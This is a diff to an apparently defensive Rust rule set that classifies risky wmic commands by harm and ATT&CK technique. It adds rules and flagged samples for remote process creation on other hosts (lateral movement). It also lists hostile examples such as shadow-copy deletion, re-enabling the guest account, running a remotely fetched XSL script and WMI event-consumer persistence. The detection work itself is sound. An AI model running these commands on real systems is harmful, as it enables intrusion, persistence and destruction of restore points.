@@ -683,6 +683,11 @@ pub const WINDOWS: &[Program] = &[
         source: "https://learn.microsoft.com/windows/win32/wmisdk/wmic (process call create starts a process, shadowcopy delete removes restore points, /format runs an XSL stylesheet's script); ATT&CK T1047, T1490, T1220",
         subs: &[
             Sub { words: &["process", "call", "create"], harm: Evasion, level: Medium, reason: "starts a process through WMI" },
+            Sub { words: &["path", "win32_process", "call", "create"], harm: Evasion, level: Medium, reason: "starts a process through WMI" },
+            // `/node:HOST`: on another machine (spn part 1: `wmic
+            // /node:ordws01 /user:... path win32_process call create ...`
+            // passed; ATT&CK T1047 lateral movement).
+            Sub { words: &["?", "call", "create", "-node=*"], harm: RemoteCode, level: High, reason: "starts a process on another host through WMI (lateral movement)" },
             Sub { words: &["shadowcopy", "delete"], harm: Destructive, level: High, reason: "deletes the volume shadow copies (the machine's restore points)" },
             // Any other method called or property set changes what the
             // class manages (services, accounts, Remote Desktop,
@@ -693,7 +698,7 @@ pub const WINDOWS: &[Program] = &[
             Sub { words: &["-format=http*"], harm: RemoteCode, level: High, reason: "runs the script of a stylesheet fetched from the network" },
             Sub { words: &["-format=\\\\*"], harm: RemoteCode, level: High, reason: "runs the script of a stylesheet fetched from a network share" },
         ],
-        flagged: &["wmic.exe process call create \"calc.exe\"", "wmic shadowcopy delete", "wmic service NAMEOFSERVICE call startservice", "wmic path win32_service where name='spooler' call stopservice", "wmic useraccount where name='guest' set disabled=false", "wmic rdtoggle where AllowTSConnections=\"0\" call SetAllowTSConnections \"1\"", "wmic os get /format:\"https://x.example/a.xsl\"", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"x\", ExecutablePath=\"C:\\x.exe\""],
+        flagged: &["wmic.exe process call create \"calc.exe\"", "wmic /node:ordws01 /user:CSCOU\\jarrieta path win32_process call create \"**empire launcher string here**\"", "wmic /node:10.0.0.5 process call create \"cmd /c whoami\"", "wmic shadowcopy delete", "wmic service NAMEOFSERVICE call startservice", "wmic path win32_service where name='spooler' call stopservice", "wmic useraccount where name='guest' set disabled=false", "wmic rdtoggle where AllowTSConnections=\"0\" call SetAllowTSConnections \"1\"", "wmic os get /format:\"https://x.example/a.xsl\"", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"x\", ExecutablePath=\"C:\\x.exe\""],
         clean: &["wmic os get caption", "wmic process list brief", "wmic service list brief", "wmic useraccount get name,sid", "wmic path win32_service get name,startmode"],
         ..W
     },
